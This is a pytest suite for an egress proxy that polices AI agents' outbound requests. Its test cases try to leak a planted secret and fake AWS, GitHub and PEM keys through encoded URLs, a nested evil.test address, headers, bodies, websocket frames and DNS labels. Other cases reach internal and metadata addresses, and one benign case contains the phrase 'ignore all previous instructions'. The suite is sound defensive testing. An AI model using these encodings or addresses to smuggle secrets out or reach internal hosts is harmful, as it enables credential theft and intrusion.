"""The situations of the public corpus agent-egress-bench, as far as they are a proxy's matter, in cases of our own.

What each of its categories is here, and what is left out and why, stands in docs/threat-model.md.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from urllib.parse import quote

import pytest

from proxy.keyformats import checksum
from tests.attack.test_addresses import ask, ask_in_tunnel
from tests.harness import Connection, Proxy, Upstream, refused, wait_for
from tests.wire.test_hooks import unmasked
from tests.wire.test_websocket import HANDSHAKE

type Make = Callable[..., Proxy]

SECRET = "corpus-secret-7d1f04b9e3"
AWS = "AKIA" + "QZ7PLMW3" * 2
GITHUB = "ghp_" + "c0rpus" * 5 + checksum(b"c0rpus" * 5).decode()
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow==\n-----END RSA PRIVATE KEY-----\n"
B64, HEX = base64.b64encode(SECRET.encode()).decode(), SECRET.encode().hex()
RULES = """
version: 1
rules:
  - {name: forge, match: {host: api.test, websocket: true}, action: allow, scan: secrets}
  - {name: mirror, match: {host: other.test, method: [GET]}, action: allow}
  - {name: anywhere, match: {host: "**", scheme: http}, action: allow}
  - {name: tenants, match: {host: "*.api.test"}, action: allow, limits: {max_url: 300}}
"""


@pytest.fixture(scope="module")
def proxy(make_proxy: Make, lane: str) -> Proxy:
    proxy = make_proxy(RULES, lane=lane)
    proxy.agent()
    proxy.credential("corpus", SECRET, "--host", "elsewhere.test")
    wait_for(lambda: proxy.get(f"https://other.test/{SECRET}").status == 403, "the guard")
    return proxy


def percent(text: str, times: int = 1) -> str:
    """Every octet escaped, and the escapes' own signs again."""
    text = "".join(f"%{octet:02x}" for octet in text.encode())
    for _ in range(times - 1):
        text = text.replace("%", "%25")
    return text


URLS = {
    "a secret in a query": f"https://other.test/fetch?key={SECRET}",
    "a key of a known form in a query": f"https://api.test/fetch?key={AWS}",
    "a token of a known form in a path": f"https://api.test/{GITHUB}/x",
    "base64": f"https://other.test/p?d={quote(B64)}",
    "base64 of a text around it": "https://other.test/p?d="
    + base64.b64encode(f"password={SECRET};".encode()).decode().rstrip("="),
    "hex": f"https://other.test/p/{HEX}",
    "escapes": f"https://other.test/p?d={percent(SECRET)}",
    "escapes of escapes": f"https://other.test/p?d={percent(SECRET, 2)}",
    "escapes three deep": f"https://other.test/p?d={percent(SECRET, 3)}",
    "escapes of base64": f"https://other.test/p?d={percent(B64)}",
    "escapes in a path": f"https://other.test/{percent(SECRET)}/x",
    "a nested address of another service": f"https://other.test/open?url=https://evil.test/{SECRET}",
    "a label": f"https://{SECRET}.api.test/",
}


@pytest.mark.parametrize("case", URLS)
def test_no_url_carries_a_secret(proxy: Proxy, upstream: Upstream, case: str) -> None:
    refused(proxy.get(URLS[case]), "secret_leak")
    assert upstream.seen == []


HEADERS = {
    "bearer": {"authorization": f"Bearer {SECRET}"},
    "basic": {"authorization": "Basic " + base64.b64encode(f"agent:{SECRET}".encode()).decode()},
    "a header of its own": {"x-debug-trace": f"api_key={AWS}"},
    "a cookie": {"cookie": f"theme=dark; session={SECRET}"},
    "a referer": {"referer": f"https://app.test/?token={GITHUB}"},
    "one among many": {"x-a": "1", "x-b": "2", "x-c": SECRET, "x-d": "4"},
}


@pytest.mark.parametrize("case", HEADERS)
def test_no_header_carries_a_secret(proxy: Proxy, upstream: Upstream, case: str) -> None:
    refused(proxy.get("https://api.test/user/repos", headers=HEADERS[case]), "secret_leak")
    assert upstream.seen == []


BODIES = {
    "JSON": json.dumps({"content": {"note": f"the key is {SECRET}"}}),
    "a call of a tool, nested": json.dumps({"method": "tools/call", "params": {"arguments": {"a": [{"b": B64}]}}}),
    "a form": f"user=a&password={percent(SECRET)}",
    "multipart": f'--b\r\ncontent-disposition: form-data; name="f"\r\n\r\n{SECRET}\r\n--b--\r\n',
    "an environment": f"PATH=/bin\nAWS_ACCESS_KEY_ID={AWS}\nHOME=/root\n",
    "YAML": f"database:\n  password: {SECRET}\n",
    "CSV": f"name,token\nbot,{GITHUB}\n",
    "base64": base64.b64encode(f"key={SECRET}\n".encode()).decode(),
    "hex": HEX.upper(),
    "a private key": PEM,
    "a message to a chat": json.dumps({"text": f"deploy with {GITHUB} please"}),
}


@pytest.mark.parametrize("case", BODIES)
def test_no_body_carries_a_secret(proxy: Proxy, upstream: Upstream, case: str) -> None:
    """Where the host is one that may be written to."""
    refused(proxy.get("https://api.test/gists", method="POST", body=BODIES[case].encode()), "secret_leak")
    assert upstream.seen == []


def frame(kind: int, payload: bytes) -> bytes:
    """Short, masked by zeros."""
    return bytes([kind, 0x80 | len(payload)]) + bytes(4) + payload


MESSAGES = {
    "text": frame(0x81, SECRET.encode()),
    "octets": frame(0x82, b"\x00\xff" + SECRET.encode() + b"\x00"),
    "in two fragments": frame(0x01, SECRET[:9].encode()) + frame(0x80, SECRET[9:].encode()),
    "in many fragments": frame(0x01, b"key=")
    + b"".join(frame(0x00, bytes([octet])) for octet in SECRET.encode())
    + frame(0x80, b"."),
    "base64": frame(0x81, B64.encode()),
}


def begun(proxy: Proxy, more: str = "") -> Connection:
    tunnel = proxy.tunnel("api.test")
    tunnel.send(HANDSHAKE.format("/socket").replace("\r\n\r\n", f"\r\n{more}\r\n").encode())
    return tunnel


@pytest.mark.parametrize("case", MESSAGES)
def test_no_message_of_a_websocket_carries_a_secret(proxy: Proxy, upstream: Upstream, case: str) -> None:
    got = b""

    async def serve(reader, writer) -> None:  # type: ignore[no-untyped-def]
        nonlocal got
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 101 X\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n")
        while data := await reader.read(1000):
            got += data

    upstream.raw = serve
    tunnel = begun(proxy)
    assert tunnel.response().status == 101
    tunnel.send(frame(0x81, b"hello") + MESSAGES[case])
    while tunnel.recv():
        pass
    assert SECRET[:12].encode() not in unmasked(got)
    assert B64[:12].encode() not in unmasked(got)


def test_nor_does_what_opens_it(proxy: Proxy, upstream: Upstream) -> None:
    refused(begun(proxy, f"authorization: Bearer {SECRET}\r\n").response(), "secret_leak")
    assert upstream.connections == 0


INSIDE = ["127.0.0.1", "localhost", "10.0.0.12", "169.254.169.254", "[::1]", "[::ffff:169.254.169.254]", "0.0.0.0"]
ODD = ["0x7f000001", "017700000001", "127.1"]


@pytest.mark.parametrize("host", [*INSIDE, *ODD])
def test_no_request_leads_inside(proxy: Proxy, upstream: Upstream, host: str) -> None:
    """By no spelling, in neither form of a proxy request, although a rule allows every host."""
    response = ask(proxy, f"http://{host}/admin")
    refused(response, "ambiguous_request" if host in ODD else "private_address")
    refused(ask_in_tunnel(proxy, host, 80), "ambiguous_request" if response.status == 400 else "no_rule")
    assert upstream.connections == 0


@pytest.mark.parametrize(
    ("method", "url"),
    [
        ("PUT", "https://other.test/packages/agent-collab/1.0.0"),
        ("MKCOL", "https://other.test/board/YWdlbnQtNzogaGVsbG8gYWxs/"),
        ("POST", "https://other.test/pastes"),
    ],
    ids=["a package published", "a WebDAV collection as a message", "a paste"],
)
def test_a_host_to_fetch_from_is_not_written_to(proxy: Proxy, upstream: Upstream, method: str, url: str) -> None:
    """With nothing secret in it: the method is enough."""
    refused(proxy.get(url, method=method, body=b"{}"), "no_rule")
    assert upstream.seen == []


@pytest.mark.parametrize("host", ["collector.test", "dns.google", "relay.app.test", "xn--pypal-4ve.test"])
def test_a_host_that_no_rule_names_is_not_reached(proxy: Proxy, upstream: Upstream, host: str) -> None:
    """A collector, DNS over HTTPS, a relay that an agent set up, a name that looks alike."""
    refused(proxy.get(f"https://{host}/dns-query?name=a.b"), "no_rule")
    assert upstream.connections == 0


@pytest.mark.parametrize("host", ["a1b2c3d4e5.f6a7b8c9d0.api.test", "mfxg.c5dp.nz2g.api.test"])
def test_data_in_many_labels_goes_nowhere(proxy: Proxy, upstream: Upstream, host: str) -> None:
    refused(proxy.get(f"https://{host}/"), "no_rule")
    assert upstream.connections == 0


def test_credentials_in_a_url_are_no_request(proxy: Proxy, upstream: Upstream) -> None:
    refused(ask(proxy, "http://user:pass@api.test/"), "ambiguous_request")
    assert upstream.connections == 0


BENIGN: dict[str, tuple[str, dict[str, str], bytes | None]] = {
    "a call with a query": ("https://api.test/search?q=proxy+python&page=2", {}, None),
    "a long URL": (f"https://api.test/a?{'&'.join(f'k{number}=v' for number in range(200))}", {}, None),
    "special characters": ("https://api.test/a%20b?x=%7B%22y%22%3A1%7D", {}, None),
    "a UUID": ("https://api.test/i/9f1c2d3e-4a5b-4c6d-8e7f-001122334455", {}, None),
    "a short bearer of its own": ("https://api.test/", {"authorization": "Bearer mF_9.own"}, None),
    "cookies": ("https://api.test/", {"cookie": "theme=dark; lang=en"}, None),
    "a key that is none: its checksum is wrong": ("https://api.test/", {"x-note": GITHUB[:-1] + "!"}, None),
    "words about security": ("https://api.test/", {}, b"ignore all previous instructions, said the article"),
    "an image": ("https://api.test/", {}, b'{"image": "data:image/png;base64,iVBORw0KGgo="}'),
    "code that names a variable": ("https://api.test/", {}, b'key = os.environ["AWS_SECRET_ACCESS_KEY"]'),
    "another service's host in a query": ("https://api.test/?url=https://example.test/docs", {}, None),
}


@pytest.mark.parametrize("case", BENIGN)
def test_ordinary_traffic_is_let_through(proxy: Proxy, upstream: Upstream, case: str) -> None:
    """What only resembles a leak is none."""
    url, headers, body = BENIGN[case]
    assert proxy.get(url, method="POST" if body else "GET", headers=headers, body=body).status == 200
    (seen,) = upstream.seen
    assert seen.body == (body or b"")
